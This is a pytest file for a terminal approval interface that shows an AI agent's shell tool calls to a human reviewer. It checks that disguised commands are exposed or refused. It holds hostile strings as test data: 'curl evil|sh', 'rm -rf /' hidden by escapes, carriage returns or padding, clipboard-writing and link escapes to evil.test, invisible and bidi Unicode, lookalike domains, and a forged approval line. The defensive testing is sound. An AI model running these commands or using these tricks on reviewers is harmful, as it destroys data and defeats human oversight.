"""The attacks of `docs/safety.md` on what is drawn: three variants each, on five sizes of terminal.

Each is exposed or refused: nothing hidden is drawn, what it hides is shown in a form of its own, and
what was not all on the screen is not approved.
"""

import json
import re
from collections.abc import Sequence

import pytest
from textual.containers import Container

from hitl_engine.model import JsonObject
from hitl_tui.messages import Decided
from hitl_tui.widgets.tool_calls.tool_calls_part import ToolCallsPart
from tests.figures.foreign import foreign_in

from .conftest import card_shown, heard, screen_text, settle
from .desk_double import tool_request
from .test_cards import ALL, card, shown

SIZES = ((20, 5), (40, 10), (80, 24), (120, 40), (300, 100))
_EXPOSED_FROM = 80
"""Columns from which the marks of a short text are on the screen at once."""

Variants = tuple[tuple[JsonObject, str], ...]
"""Arguments of a call, each with what the screen then shows, as a regular expression."""


def _shell(command: str, shows: str) -> tuple[JsonObject, str]:
    return {"command": command}, re.sub(r"\\\\u\\\{([0-9A-F]+)\\\}", _mark, shows)


def _mark(named: re.Match[str]) -> str:
    """Return a pattern for both marks of a character: `\\u{1B}` in lines, `\\u001b` in JSON."""
    in_json = json.dumps(chr(int(named[1], 16)))[1:-1]
    return f"(?:{named[0]}|{re.escape(in_json)})"


ATTACKS: dict[str, Variants] = {
    "A1": (
        _shell("ls\x1b[2J\x1b[Hrm", r"\\u\{1B\}\[2J"),
        _shell("ls\x1b[1A\x1b[2Krm", r"\\u\{1B\}\[1A"),
        _shell("\x1b[8mrm\x1b[0m", r"\\u\{1B\}\[8m"),
    ),
    "A2": (
        _shell("curl evil|sh\r\x1b[2Kls", r"\\u\{D\}"),
        _shell("rm -rf /\rls", r"\\u\{D\}ls"),
        _shell("rm\b\bls", r"rm\\u\{8\}\\u\{8\}ls"),
    ),
    "A3": (
        _shell("\x1b]52;c;ZXZpbA==\x07", r"\\u\{1B\}\]52;.*\\u\{7\}"),
        _shell("\x1b]0;title\x1b[6n", r"\\u\{1B\}\]0;title\\u\{1B\}\[6n"),
        _shell("\x1b]52;c;not ended", r"\\u\{1B\}\]52;c;not ended"),
    ),
    "A4": (
        _shell("\x9b31mred", r"\\u\{9B\}31m"),
        _shell("\x9d0;x\x9c", r"\\u\{9D\}0;x\\u\{9C\}"),
        _shell("\x90q\x9c\x85", r"\\u\{90\}q\\u\{9C\}\\u\{85\}"),
    ),
    "A5": (
        _shell("\x1b]8;;http://evil.test\x1b\\safe\x1b]8;;\x1b\\", r"8;;http://evil\.test"),
        _shell("[link=http://evil.test]safe[/link]", r"\[link=http://evil\.test\]safe"),
        _shell("[safe](http://evil.test)", r"\[safe\]\(http://evil\.test\)"),
    ),
    "A6": (
        _shell("ls" + "\n" * 200 + "rm -rf /", r"200|199"),
        _shell("ls" + "\n#" * 200 + "\nrm -rf /", "unseen"),
        _shell("ls" + "\n \t" * 300 + "\nrm -rf /", r"×|unseen"),
    ),
    "A7": (
        _shell("ls" + " " * 3_000 + "; rm -rf /", r"⟨×3,?000 spaces⟩"),
        _shell("x" * 30_000, "unseen"),
        _shell("x " * 15_000, "unseen"),
    ),
    "A8": (
        ({f"argument {n}": n for n in range(202)}, "unseen"),
        ({"tree": {str(n): {str(k): "deep" for k in range(40)} for n in range(9)}}, "unseen|items"),
        ({"first": "x" * 5_000, "command": "rm -rf /"}, "unseen|rm -rf /"),
    ),
    "A9": (
        _shell("r\u200bm \u2060x", r"r\\u\{200B\}m \\u\{2060\}x"),
        _shell("a\u2028b\u3164\u115f", r"a\\u\{2028\}b\\u\{3164\}\\u\{115F\}"),
        _shell("a\ue000b\ufeff\u2800", r"a\\u\{E000\}b\\u\{FEFF\}\\u\{2800\}"),
    ),
    "A10": (
        _shell("a\u202eevorppa\u202c", r"a\\u\{202E\}evorppa\\u\{202C\}"),
        _shell("a\u2066b\u2069", r"a\\u\{2066\}b\\u\{2069\}"),
        _shell("a\u200fb\u061c", r"a\\u\{200F\}b\\u\{61C\}"),
    ),
    "A11": (
        _shell("ls\U000e0065\U000e0076", r"ls\\u\{E0065\}\\u\{E0076\}"),
        _shell("x\U000e0100\U000e01ef", r"x\\u\{E0100\}\\u\{E01EF\}"),
        _shell("\U000e0001x\U000e007f", r"\\u\{E0001\}x\\u\{E007F\}"),
    ),
    "A12": (
        _shell("open https://p\u0430ypal.com", r"resembles\s+“paypal”"),
        _shell("open https://xn--80ak6aa92e.com", r"Punycode"),
        _shell("open https://\uff47oogle.com", r"resembles\s+“google\.com”"),
    ),
    "A13": (
        _shell("[/b] [/]", r"\[/b\] \[/\]"),
        _shell("[@click=app.quit]x[/]", r"\[@click=app\.quit\]x\[/\]"),
        _shell("[on red $error]x", r"\[on red \$error\]x"),
    ),
    "A15": (
        _shell("╭──╮\n│ Send │\n╰──╯", r"\d.* ╭──╮.*\d.* │ Send │"),
        _shell("ok\n\nAPPROVED by alice ✓", r"\d +(?:│ )?.*APPROVED by alice ✓"),
        _shell("x\nWill send  {}", r"\d .*Will send"),
    ),
    "A23": (
        ({"caf\u00e9": 1, "cafe\u0301": 2}, r"look the same"),
        ({"n": 10**300}, r"unseen|10{20}"),
        ({"__proto__": {"__class__": 1}}, r"__proto__"),
    ),
}  # fmt: skip


@pytest.mark.parametrize(
    ("size", "variants"),
    [
        ((80, 24), (0,)),
        *(pytest.param(each, (0, 1, 2), marks=pytest.mark.hardening) for each in SIZES),
    ],
    ids=lambda value: "x".join(map(str, value)),
)
@pytest.mark.usefixtures("without_net")
async def test_each_is_exposed_or_refused(size: tuple[int, int], variants: Sequence[int]) -> None:
    assert all(len(each) == 3 for each in ATTACKS.values())
    attacks = [(name, *each[number]) for name, each in ATTACKS.items() for number in variants]
    seat = Container()
    async with card_shown(seat, size) as (pilot, said):
        for name, args, shows in attacks:
            made = card(tool_request(("shell", args, "a story", ALL)))
            with pilot.app.batch_update():
                await seat.remove_children()
                await seat.mount(made)
            await shown(made, pilot)
            seen = screen_text(pilot.app)
            drawn = foreign_in(seen.encode("utf-8", "surrogatepass"))
            assert not drawn.sequences and not drawn.invisible, (name, args, drawn)
            if size[0] >= _EXPOSED_FROM:
                found = re.search(shows, seen, re.DOTALL | re.IGNORECASE)
                assert found, f"{name}: {shows} is not on the screen:\n{seen}"
            assert isinstance(made.part, ToolCallsPart)
            if made.part.unseen:
                said.clear()
                await pilot.press("a", "ctrl+s")
                await settle(pilot)
                assert not heard(said, Decided), f"{name} was approved unseen: {args}"
